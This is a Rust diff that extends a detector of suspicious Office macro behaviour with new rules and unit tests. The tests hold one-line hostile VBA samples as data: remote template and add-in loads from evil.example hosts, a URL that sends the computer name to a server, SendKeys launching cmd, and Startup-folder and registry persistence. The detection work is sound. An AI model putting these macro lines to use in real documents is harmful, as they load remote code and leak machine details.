@@ -13,6 +13,9 @@ pub(super) fn opening(lines: &[Line], texts: &[Folded], signs: &mut Collected) {
     for folded in texts.iter().filter(|folded| is_strange_share(&folded.text)) {
         signs.add(Sign::SendsOut, &folded.text, folded.line);
     }
+    for line in lines.iter().filter(|line| tells_in_address(line)) {
+        signs.add_line(Sign::SendsOut, line);
+    }
     let shows = |line: &&Line| WAYS.iter().any(|(word, _, _)| line_has(line, &[*word]));
     for line in lines.iter().filter(shows) {
         let said = said_on(line.number, texts);
@@ -44,6 +47,7 @@ struct Module {
     copies_own_file: bool,
     reads_files: bool,
     reads_mail: bool,
+    finds_items: bool,
 }
 
 impl Module {
@@ -59,6 +63,7 @@ impl Module {
             copies_own_file: lines.iter().any(copies),
             reads_files: has(&["loadfromfile"]),
             reads_mail: has(&["getdefaultfolder"]),
+            finds_items: has(&["parsename"]),
         }
     }
 }
@@ -74,6 +79,7 @@ const WAYS: &[Way] = &[
     ("copyhere", Sign::OpensObject, |place| place.module.copies_own_file),
     ("followhyperlink", Sign::Download, |place| leads_to_program(place.said)),
     ("open", Sign::Download, |place| is_far_document(place.said) && opens_documents(place.line)),
+    ("add", Sign::Download, |place| is_far_document(place.said) && line_has(place.line, &["addins"])),
     ("insertfile", Sign::Download, |place| is_far_document(place.said)),
     ("attachedtemplate", Sign::Download, |place| is_far_document(place.said)),
     // A style sheet may hold a script (MSXML: msxsl:script).
@@ -87,10 +93,18 @@ const WAYS: &[Way] = &[
     ("sendkeys", Sign::ProcessStart, |place| names_interpreter(place.said)),
     ("regwrite", Sign::ProcessStart, |place| is_starting_key(place.said)),
     ("registerxll", Sign::ProcessStart, |place| is_dropping_place(place.said)),
-    ("eval", Sign::ProcessStart, |place| place.module.has_script_control && is_computed(place.after)),
+    ("eval", Sign::ProcessStart, |place| {
+        place.module.has_script_control
+            && is_computed(place.after)
+            && (!reads_data(place.after) || is_out_of_sight(place.after))
+    }),
     // A page in memory runs what it is given; a script written here can be read here.
     ("execscript", Sign::ProcessStart, |place| is_out_of_sight(place.after)),
-    ("executeexcel4macro", Sign::ProcessStart, |place| is_cell(place.after)),
+    ("executeexcel4macro", Sign::ProcessStart, |place| is_cell(place.after) || is_out_of_sight(place.after)),
+    // What the menu of a file offers first is to open it.
+    ("invokeverb", Sign::ProcessStart, |place| opens_item(place)),
+    ("invokeverbex", Sign::ProcessStart, |place| opens_item(place)),
+    ("specialfolders", Sign::ProcessStart, |place| place.said.contains("startup")),
     ("send", Sign::SendsOut, |place| sends_away(place)),
 ];
 
@@ -198,6 +212,12 @@ fn is_dropping_place(said: &str) -> bool {
     ["temp", "tmp", "appdata", "\\public\\", "programdata"].iter().any(|place| said.contains(place))
 }
 
+/// `Eval("(" & json & ")")`: how JSON is read where nothing else reads it.
+fn reads_data(after: &[Token]) -> bool {
+    let first = after.iter().find(|token| !token.is_mark('('));
+    matches!(first, Some(Token::Text(text)) if text.trim() == "(")
+}
+
 /// Whether an argument is more than a literal.
 fn is_computed(after: &[Token]) -> bool {
     after.iter().any(|token| matches!(token, Token::Word(_)))
@@ -216,6 +236,24 @@ fn is_cell(after: &[Token]) -> bool {
     let first = after.iter().find(|token| !token.is_mark('('));
     let joins = after.iter().any(|token| token.is_mark('&'));
     matches!(first, Some(Token::Word(word)) if CELLS.contains(&word.as_str())) && !joins
+}
+
+/// `InvokeVerb` of an item of a folder, other than what offices do with papers.
+fn opens_item(place: &Place) -> bool {
+    const PAPERWORK: &[&str] = &["print", "propert", "pin", "delete", "copy", "paste", "rename", "link"];
+    place.module.finds_items && !PAPERWORK.iter().any(|verb| place.said.contains(verb))
+}
+
+/// Whether a line puts the name of the machine into the address of a web server.
+fn tells_in_address(line: &Line) -> bool {
+    let texts = || {
+        line.tokens.iter().filter_map(|token| match token {
+            Token::Text(text) => Some(text.to_ascii_lowercase()),
+            _ => None,
+        })
+    };
+    texts().any(|text| is_far(&text) && text.contains(['?', '=']))
+        && texts().any(|text| ["computername", "userdomain", "userdnsdomain"].contains(&text.as_str()))
 }
 
 /// What names the machine or its user goes to a server, or a file that was read does.
@@ -254,6 +292,7 @@ mod tests {
             ("FollowHyperlink \"https://files.evil.example/a.zip?id=3\", , True", Sign::Download),
             ("Workbooks.Open \"https://c.evil.example/b.xlsm\"", Sign::Download),
             ("Documents.Open \"\\\\198.51.100.7\\s\\n.doc\"", Sign::Download),
+            ("AddIns.Add(Filename:=\"http://t.evil.example/n.xlam\").Installed = True", Sign::Download),
             ("Selection.InsertFile \"http://t.evil.example/n.docm\"", Sign::Download),
             ("ActiveDocument.AttachedTemplate = \"http://t.evil.example/n.dotm\"", Sign::Download),
             ("x.Load \"http://x.evil.example/a.xsl\"\nx.transformNode x", Sign::ProcessStart),
@@ -265,6 +304,10 @@ mod tests {
             ("i.InstallProduct \"http://x.evil.example/a.msi\"", Sign::Download),
             ("s.AddPicture \"\\\\198.51.100.9\\s\\x.png\"", Sign::SendsOut),
             ("f = o.GetDefaultFolder(6)\nh.send m.Body", Sign::SendsOut),
+            ("f.ParseName(\"a.hta\").InvokeVerb", Sign::ProcessStart),
+            ("p = w.SpecialFolders(\"Startup\")", Sign::ProcessStart),
+            ("u = \"http://t.evil.example/p.gif?\" & Environ(\"COMPUTERNAME\")", Sign::SendsOut),
+            ("x.ExecuteExcel4Macro ActiveDocument.Variables(1).Value", Sign::ProcessStart),
             ("SendKeys \"cmd /c echo tenpu-test{ENTER}\"", Sign::ProcessStart),
             ("w.RegWrite \"HKCU\\Software\\Classes\\a\\shell\\open\\command\\\", p", Sign::ProcessStart),
             ("Application.RegisterXLL Environ(\"TEMP\") & \"\\b.xll\"", Sign::ProcessStart),
@@ -302,6 +345,10 @@ mod tests {
             "h.parentWindow.execScript code, \"JScript\"",
             "h.send",
             "h.send body",
+            "Set c = CreateObject(\"ScriptControl\")\nx = c.Eval(\"(\" & json & \")\")",
+            "f.ParseName(n).InvokeVerb \"&Print\"",
+            "p = w.SpecialFolders(\"Desktop\")",
+            "u = \"http://intranet/log?\" & Environ(\"USERNAME\")",
             "h.Send Request.Body",
             "p = \"\\\\192.168.1.20\\share\\a.png\"",
             "p = \"\\\\198.51.100.9\"",
